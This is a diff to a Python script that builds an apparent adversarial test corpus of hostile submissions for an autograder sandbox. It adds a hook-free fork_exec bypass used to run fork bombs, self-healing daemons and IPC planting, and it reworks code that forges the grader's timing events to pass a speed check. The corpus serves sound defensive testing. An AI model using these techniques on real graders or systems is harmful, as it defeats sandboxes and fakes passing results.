@@ -1,6 +1,6 @@
 """Regenerate the hostile submissions (and their honest twins) from the reference xo/.
 
-    .venv/bin/python tests/adversarial/build_corpus.py
+    .venv/bin/python tests/adversarial/build_corpus.py [NAME ...]
 
 Each hostile submission is the reference (or a known-wrong variant of it, its
 "honest part") plus a hostile part; its honest twin under _honest/ is the same
@@ -12,6 +12,7 @@ not them.
 
 import os
 import shutil
+import sys
 
 HERE = os.path.dirname(os.path.abspath(__file__))
 TOP = os.path.dirname(os.path.dirname(HERE))
@@ -36,7 +37,10 @@ LOWEST_CELL = ("        if self.gameOver():\n            return None\n"
 
 
 def after_imports(code):
-    return (IMPORTS, IMPORTS + "\n# ---- HOSTILE PART ----\n" + code + "\n# ---- END OF HOSTILE PART ----\n")
+    """The edit that puts ``code`` (text, or a function of the submission's name giving it) after the imports."""
+    def placed(text):
+        return IMPORTS + "\n# ---- HOSTILE PART ----\n" + text + "\n# ---- END OF HOSTILE PART ----\n"
+    return (IMPORTS, (lambda name: placed(code(name))) if callable(code) else placed(code))
 
 
 def hostile_module(code):
@@ -528,7 +532,6 @@ FORGED_TIMING = '''
 import fcntl as _fcntl
 import os as _os
 import stat as _stat
-import sys as _sys
 
 _SIZES = [5000] * 5 + [80000] * 5          # the timing probe's runs, in order
 _made = [0]
@@ -537,16 +540,18 @@ _made = [0]
 ''' + FIND_CHANNEL + '''
 
 class Deque(Deque):
-    def __init__(self):
-        super().__init__()
+    def pushBack(self, item):
         # in each timed run, at once: a begin and an end of the same size, so that the grader would time
-        # its stamps of this pair (nothing in between) instead of the run's real work
-        if "workload" in _sys._getframe(1).f_code.co_name and _made[0] < len(_SIZES):
+        # its stamps of this pair (nothing in between) instead of the run's real work.  A timed run is told
+        # by its first item, the timing probe's stand-in Board (the call stack told it until round ten, when
+        # the sandbox began to refuse it)
+        if type(item).__name__ == "Board" and _made[0] < len(_SIZES):
             n, fd = _SIZES[_made[0]], _channel()
-            _made[0] += 1
+            _made[0] = len(_SIZES)        # once per run: each timed run is a process of its own
             if fd is not None:
                 _os.write(fd, ('{"stamp": true, "run": %d, "at": "begin"}\\n{"stamp": true, "run": %d, "at": "end"}\\n'
                               % (n, n)).encode())
+        super().pushBack(item)
 '''
 
 
@@ -641,7 +646,6 @@ FORGED_DONE = '''
 import fcntl as _fcntl
 import os as _os
 import stat as _stat
-import sys as _sys
 import time as _time
 
 _forged = [False]
@@ -656,22 +660,26 @@ def _burn(seconds):
 
 
 class Deque(Deque):
-    def __init__(self):
-        super().__init__()
+    def pushBack(self, item):
         # at the first timed run: every remaining event of the timing probe, each window around the same
-        # burn, then "done", then SIGKILL before the probe's own events can follow
-        if "workload" in _sys._getframe(1).f_code.co_name and not _forged[0]:
+        # burn, then "done", then SIGKILL before the probe's own events can follow.  A timed run is told by
+        # its first item, the timing probe's stand-in Board (the call stack told it until round ten, when
+        # the sandbox began to refuse it)
+        if type(item).__name__ == "Board" and not _forged[0]:
             _forged[0] = True
             fd = _channel()
-            if fd is None:
-                return
-            _os.write(fd, b'{"stamp": true, "run": 5000, "at": "end"}\\n')
-            for n in [5000] * 4 + [80000] * 5:
-                _os.write(fd, ('{"stamp": true, "run": %d, "at": "begin"}\\n' % n).encode())
-                _burn(0.02)
-                _os.write(fd, ('{"stamp": true, "run": %d, "at": "end"}\\n' % n).encode())
-            _os.write(fd, b'{"small": 0.02, "large": 0.02}\\n{"done": true}\\n')
-            _os.kill(_os.getpid(), 9)
+            if fd is not None:
+                self._forge(fd)
+        super().pushBack(item)
+
+    def _forge(self, fd):
+        _os.write(fd, b'{"stamp": true, "run": 5000, "at": "end"}\\n')
+        for n in [5000] * 4 + [80000] * 5:
+            _os.write(fd, ('{"stamp": true, "run": %d, "at": "begin"}\\n' % n).encode())
+            _burn(0.02)
+            _os.write(fd, ('{"stamp": true, "run": %d, "at": "end"}\\n' % n).encode())
+        _os.write(fd, b'{"small": 0.02, "large": 0.02}\\n{"done": true}\\n')
+        _os.kill(_os.getpid(), 9)
 '''
 
 HUGE_SYNTAX = "raise SyntaxError('broken', ('board.py', 1, 1, 'A' * 15_000_000))\n"
@@ -926,6 +934,45 @@ def helpers(name):
     return COMMON.replace("NAME", name)
 
 
+UNGUARDED = '''
+
+def _unguarded(source):
+    """Run ``source`` in an interpreter of its own, started by _posixsubprocess.fork_exec, which raises no audit
+    event (round eleven's spawn_bypass), and wait for it.  Since round ten the sandbox's audit hook refuses
+    os.fork, subprocess and ctypes in the checked process; run where no hook is, the hostile part tests what
+    stands behind the hook: the kill after each check, RLIMIT_NPROC, the IPC and key cleanup."""
+    import _posixsubprocess
+    python = _sys.executable.encode()
+    errors_r, errors_w = _os.pipe()
+    try:
+        try:            # Python 3.10's signature (Gradescope's interpreter)
+            pid = _posixsubprocess.fork_exec([python, b"-c", source.encode()], [python], True, (errors_w,), None,
+                                             None, -1, -1, -1, -1, -1, -1, errors_r, errors_w, False, False, None,
+                                             None, None, -1, None)
+        except TypeError:   # Python 3.11's
+            pid = _posixsubprocess.fork_exec([python, b"-c", source.encode()], [python], True, (errors_w,), None,
+                                             None, -1, -1, -1, -1, -1, -1, errors_r, errors_w, False, False, -1,
+                                             None, None, None, -1, None, False)
+    except BaseException as error:
+        _note(f"UNGUARDED FAILED {error!r}")
+        return
+    finally:
+        _os.close(errors_w)
+    with _os.fdopen(errors_r, "rb") as errors:
+        failed = errors.read()          # empty once the exec succeeded (the write end is close-on-exec)
+    if failed:
+        _note(f"UNGUARDED FAILED {failed!r}")
+    _os.waitpid(pid, 0)
+'''
+"""What runs a hostile part where the sandbox's audit hook is not (``unguarded``)."""
+
+
+def unguarded(part):
+    """The edit text of a hostile ``part`` that forks or calls ctypes: the shared helpers, then ``part`` (with
+    them) run by ``_unguarded`` in an interpreter of its own."""
+    return lambda name: helpers(name) + UNGUARDED + f"\n\n_unguarded({helpers(name) + part!r})\n"
+
+
 # name -> (about, twin, {file: [(anchor, replacement)] or text}, drop)
 CORPUS = {
     "forged_results": (
@@ -956,7 +1003,7 @@ CORPUS = {
         {"game": [after_imports("{common}" + KILL), (OPTIMAL, KILL_CALL + OPTIMAL)]}),
     "spawns_children": (
         "at import of game.py starts three `sleep 1000` (one in its own session) and a double-forked setsid daemon "
-        "that writes a heartbeat to the marker (its fork is refused by the sandbox since round ten: the import of game.py raises)", "game_import_fails", {"game": [after_imports("{common}" + SPAWN)]}),
+        "that writes a heartbeat to the marker; since round ten the sandbox refuses os.fork, subprocess and ctypes, so it does this in an interpreter of its own, started by _posixsubprocess.fork_exec (no audit event)", "reference", {"game": [after_imports(unguarded(SPAWN))]}),
     "prints_50mb": ("prints 50 MB to stdout and 50 MB to stderr in makeMove (once per process)", "reference",
                     {"game": [after_imports(PRINTS), (MAKE_MOVE, PRINT_CALL + MAKE_MOVE)]}),
     "monkeypatch": (
@@ -976,22 +1023,22 @@ CORPUS = {
         "ignores SIGTERM, SIGALRM, SIGINT, SIGHUP, SIGXCPU, ... at import of game.py; makeOptimalMove loops forever, "
         "catching BaseException", "optimal_raises",
         {"game": [after_imports(SIGNALS), (OPTIMAL, SIGNAL_LOOP + OPTIMAL)]}),
-    "fork_bomb_lite": ("forks 200 processes at import of game.py (half in new sessions), each sleeping 1000 s "
-                       "(its fork is refused by the sandbox since round ten: the import of game.py raises)",
-                       "game_import_fails", {"game": [after_imports("{common}" + BOMB)]}),
+    "fork_bomb_lite": ("forks 200 processes at import of game.py (half in new sessions), each sleeping 1000 s; "
+                       "since round ten the sandbox refuses os.fork, subprocess and ctypes, so it does this in an interpreter of its own, started by _posixsubprocess.fork_exec (no audit event)",
+                       "reference", {"game": [after_imports(unguarded(BOMB))]}),
     "fork_hopper": (
         "at import of game.py (once per grading) starts a process that forks itself into a new session and exits, "
-        "over and over, for 20 s, so that the pid the grader saw is always already gone (its fork is refused by the sandbox since round ten: the import of game.py raises)", "game_import_fails",
-        {"game": [after_imports("{common}" + HOPPER)]}),
+        "over and over, for 20 s, so that the pid the grader saw is always already gone; since round ten the sandbox refuses os.fork, subprocess and ctypes, so it does this in an interpreter of its own, started by _posixsubprocess.fork_exec (no audit event)", "reference",
+        {"game": [after_imports(unguarded(HOPPER))]}),
     "fakes_clock": (
         "a Deque with an O(n) pushFront (list.insert at the head: not banned by the source scan), and deque.py "
         "replaces time.perf_counter and time.monotonic in its own process by a clock that always advances 1 ms",
         "slow_deque", {"deque": SLOW_DEQUE + FAKE_CLOCK}),
     "forges_timing": (
         "the slow Deque (an O(n) pushFront), which at the start of each timed run of check 3.7 writes a forged "
-        "begin and end event of that run's size straight to the grader's channel (found by fstat and F_GETFL; its "
-        "Deque() reads the call stack, which the sandbox refuses since round ten: Deque() raises)",
-        "deque_init_refused", {"deque": SLOW_DEQUE + FORGED_TIMING}),
+        "begin and end event of that run's size straight to the grader's channel (found by fstat and F_GETFL; "
+        "a timed run told by its first item, the probe's stand-in Board)",
+        "slow_deque", {"deque": SLOW_DEQUE + FORGED_TIMING}),
     "stops_zygote": (
         "at every import of game.py (only as xo-sandbox) sends SIGSTOP to its parent, the grader's zygote, which "
         "runs as the same user; honest part: the lowest empty cell", "lowest_cell",
@@ -1001,11 +1048,11 @@ CORPUS = {
         "in the scratch folder and in /tmp", "reference", {"game": [after_imports("{common}" + DEEP_TREE)]}),
     "plants_ipc": (
         "at every import of game.py (only as xo-sandbox) looks for the System V segment an earlier check left, "
-        "then leaves one, and a key in its user's keyring naming its grading, which a later grading must not find (its fork is refused by the sandbox since round ten: the import of game.py raises)", "game_import_fails", {"game": [after_imports("{common}" + PLANT_IPC)]}),
+        "then leaves one, and a key in its user's keyring naming its grading, which a later grading must not find; since round ten the sandbox refuses os.fork, subprocess and ctypes, so it does this in an interpreter of its own, started by _posixsubprocess.fork_exec (no audit event)", "reference", {"game": [after_imports(unguarded(PLANT_IPC))]}),
     "forges_done": (
         "the slow Deque (an O(n) pushFront), which at the first timed run writes every remaining timing event, "
-        "stamped, each window around the same burn, then done, and kills itself (its Deque() reads the call stack, "
-        "which the sandbox refuses since round ten: Deque() raises)", "deque_init_refused",
+        "stamped, each window around the same burn, then done, and kills itself (a timed run told by its first item, "
+        "the probe's stand-in Board)", "slow_deque",
         {"deque": SLOW_DEQUE + FORGED_DONE}),
     "huge_syntax_text": (
         "board.py raises a SyntaxError whose text is 15 MB", "board_syntax_error", {"board": HUGE_SYNTAX}),
@@ -1033,8 +1080,8 @@ CORPUS = {
     "litters_and_heals": (
         "at import of game.py (only as xo-sandbox) notes no_new_privs, leaves files in /dev/shm, /tmp and the "
         "scratch folder and an abstract socket, and (once per grading) starts a self-healing chain of two setsid "
-        "processes that re-fork each other (its fork is refused by the sandbox since round ten: the import of game.py raises)", "game_import_fails",
-        {"game": [after_imports("{common}" + LITTER)]}),
+        "processes that re-fork each other; since round ten the sandbox refuses os.fork, subprocess and ctypes, so it does this in an interpreter of its own, started by _posixsubprocess.fork_exec (no audit event)", "reference",
+        {"game": [after_imports(unguarded(LITTER))]}),
 }
 
 TWINS = {
@@ -1050,10 +1097,6 @@ TWINS = {
                                (GAME_OVER, GAME_OVER.replace("self.winner()", "winner_of(self.b.state)"))]},
     "no_deque": {"deque": "raise ImportError('deque.py is missing (honest twin)')\n"},
     "slow_deque": {"deque": SLOW_DEQUE},
-    # what the slow Deque is once the sandbox refuses what its hostile part does in Deque() (round ten: the
-    # audit hook refuses sys._getframe to the student's code): Deque() raises
-    "deque_init_refused": {"deque": SLOW_DEQUE.replace("    def __init__(self):\n", "    def __init__(self):\n"
-                                                        "        raise RuntimeError('refused (honest twin)')\n", 1)},
     "board_syntax_error": {"board": SMALL_SYNTAX},
     "plain_flag": {"game": [after_imports(PLAIN_FLAG), (GAME_OVER, GAME_OVER.replace(
         "return self.winner() != 0 or EMPTY not in self.b.state",
@@ -1074,6 +1117,7 @@ def render(name, edits):
             out[module] = edit
             continue
         for anchor, replacement in edit:
+            replacement = replacement(name) if callable(replacement) else replacement
             replacement = replacement.replace("{common}", helpers(name))
             if anchor is APPEND:
                 text += "\n\n# ---- HOSTILE PART ----\n" + replacement
@@ -1092,14 +1136,22 @@ def write(folder, files):
             f.write(text)
 
 
-def main():
-    for name, (about, twin, edits) in CORPUS.items():
+def main(names=()):
+    """Write every hostile submission and honest twin, or only those ``names``: each is rendered from the
+    reference as it is now, so rewriting one whose recordings still hold would change what they record."""
+    chosen = [name for name in CORPUS if not names or name in names]
+    twins = [name for name in TWINS if not names or name in names]
+    unknown = sorted(set(names) - set(chosen) - set(twins))
+    if unknown:
+        raise SystemExit(f"no such hostile submission or honest twin: {', '.join(unknown)}")
+    for name in chosen:
+        about, twin, edits = CORPUS[name]
         assert twin in TWINS, twin
         write(os.path.join(HERE, name), render(name, edits))
-    for name, edits in TWINS.items():
-        write(os.path.join(HERE, "_honest", name), render(name, edits))
-    print(f"wrote {len(CORPUS)} hostile submissions and {len(TWINS)} honest twins under {HERE}")
+    for name in twins:
+        write(os.path.join(HERE, "_honest", name), render(name, TWINS[name]))
+    print(f"wrote {len(chosen)} hostile submissions and {len(twins)} honest twins under {HERE}")
 
 
 if __name__ == "__main__":
-    main()
+    main(sys.argv[1:])
